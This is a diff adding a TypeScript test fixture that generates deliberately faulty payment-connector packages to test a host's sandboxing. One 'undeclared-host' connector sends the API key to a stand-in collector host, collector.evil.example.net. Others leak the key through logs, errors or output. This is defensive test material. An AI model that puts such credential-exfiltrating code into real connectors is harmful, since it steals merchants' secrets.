@@ -1,0 +1,141 @@
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+
+/** The connector behaviours the fault tests need. */
+export type FixtureKind =
+  | 'good'
+  | 'throws-on-import'
+  | 'hangs'
+  | 'throws-secret'
+  | 'garbage'
+  | 'undeclared-host';
+
+/** A secret the fixture connectors accept (the good one) or leak (the bad ones) if the host let them. */
+export const FIXTURE_SECRET = 'key_FixtureSecretValue9Q7xLm2';
+
+/** The id of the fixture connector of a kind. */
+export function fixtureId(kind: FixtureKind): string {
+  return `fx-${kind}`;
+}
+
+/** The API origin a fixture's manifest declares; map it to a simulator with egress overrides. */
+export function fixtureOrigin(kind: FixtureKind): string {
+  return `https://api.${fixtureId(kind)}.example`;
+}
+
+function manifest(kind: FixtureKind): Record<string, unknown> {
+  const host = new URL(fixtureOrigin(kind)).hostname;
+  return {
+    id: fixtureId(kind),
+    name: `Fixture ${kind}`,
+    status: 'ready',
+    description: `A connector written outside the repository (${kind}).`,
+    website: 'https://example.com',
+    countries: ['UA'],
+    paymentMethods: ['payment_card'],
+    payoutMethods: ['bank_card'],
+    paymentServices: [{ method: 'payment_card', currency: 'UAH' }],
+    payoutServices: [{ method: 'bank_card', currency: 'UAH' }],
+    environments: { sandbox: { label: 'Test', baseUrl: `https://${host}`, hosts: [host] } },
+    credentials: {
+      version: 1,
+      schema: {
+        type: 'object',
+        required: ['apiKey'],
+        properties: {
+          merchantId: { type: 'string', title: 'Merchant ID', examples: ['m_123'] },
+          apiKey: {
+            type: 'string',
+            title: 'API key',
+            description: 'starts with key_ and at least 16 letters or digits',
+            pattern: '^key_[A-Za-z0-9]{16,}$',
+            writeOnly: true,
+          },
+        },
+      },
+    },
+  };
+}
+
+const MODULES: Record<FixtureKind, string> = {
+  good: `export default {
+  manifest,
+  async verify({ credentials }, ctx) {
+    const res = await ctx.fetch(ctx.baseUrl + '/v1/account', { headers: { authorization: 'Bearer ' + credentials.apiKey } });
+    if (res.status === 401) return { ok: false, reason: 'invalid_credentials', message: 'The API key was refused', fields: ['apiKey'], retryable: false };
+    const body = await res.json();
+    return { ok: true, account: { id: body.id, name: body.name } };
+  },
+};`,
+  'throws-on-import': `throw new Error('this connector cannot even be imported');
+export default { manifest };`,
+  hangs: `export default { manifest, verify: () => new Promise(() => {}) };`,
+  'throws-secret': `export default {
+  manifest,
+  async verify({ credentials }, ctx) {
+    ctx.logger.error('about to fail with ' + credentials.apiKey, { key: credentials.apiKey });
+    throw new Error('the provider refused ' + credentials.apiKey);
+  },
+};`,
+  garbage: `export default { manifest, async verify({ credentials }) { return { ok: 'sure', echo: credentials.apiKey }; } };`,
+  'undeclared-host': `export default {
+  manifest,
+  async verify({ credentials }, ctx) {
+    await ctx.fetch('https://collector.evil.example.net/keys?k=' + credentials.apiKey);
+    return { ok: true };
+  },
+};`,
+};
+
+/**
+ * Writes connector packages (plain JavaScript, no dependencies: they live outside the workspace)
+ * into `dir`, one folder per kind. Name `dir` in `PAYCORE_CONNECTOR_PATHS` / `connectorPaths`.
+ */
+export function writeFixtureConnectors(dir: string, kinds: readonly FixtureKind[]): void {
+  for (const kind of kinds) {
+    const pkg = join(dir, fixtureId(kind));
+    mkdirSync(pkg, { recursive: true });
+    writeFileSync(
+      join(pkg, 'package.json'),
+      JSON.stringify({
+        name: `@outside/connector-${fixtureId(kind)}`,
+        version: '1.0.0',
+        type: 'module',
+        paycore: { manifest: './manifest.json' },
+        exports: './index.js',
+      }),
+    );
+    writeFileSync(join(pkg, 'manifest.json'), JSON.stringify(manifest(kind), null, 2));
+    writeFileSync(join(pkg, 'README.md'), `# Fixture ${kind}\n\nFind the API key under Settings → API.\n`);
+    writeFileSync(
+      join(pkg, 'index.js'),
+      `import { readFileSync } from 'node:fs';
+const manifest = JSON.parse(readFileSync(new URL('./manifest.json', import.meta.url), 'utf8'));
+${MODULES[kind]}
+`,
+    );
+  }
+}
+
+/** A provider API for the good fixture: `GET /v1/account` accepts {@link FIXTURE_SECRET} only. */
+export async function startAccountSimulator(): Promise<{ origin: string; close(): Promise<void> }> {
+  const server = createServer((req, res) => {
+    res.setHeader('content-type', 'application/json');
+    if (req.headers.authorization === `Bearer ${FIXTURE_SECRET}`) {
+      res.writeHead(200).end(JSON.stringify({ id: 'acct_fixture', name: 'Fixture Merchant' }));
+    } else {
+      res.writeHead(401).end(JSON.stringify({ error: 'unauthorized' }));
+    }
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    close: () =>
+      new Promise((resolve) => {
+        server.closeAllConnections();
+        server.close(() => resolve());
+      }),
+  };
+}
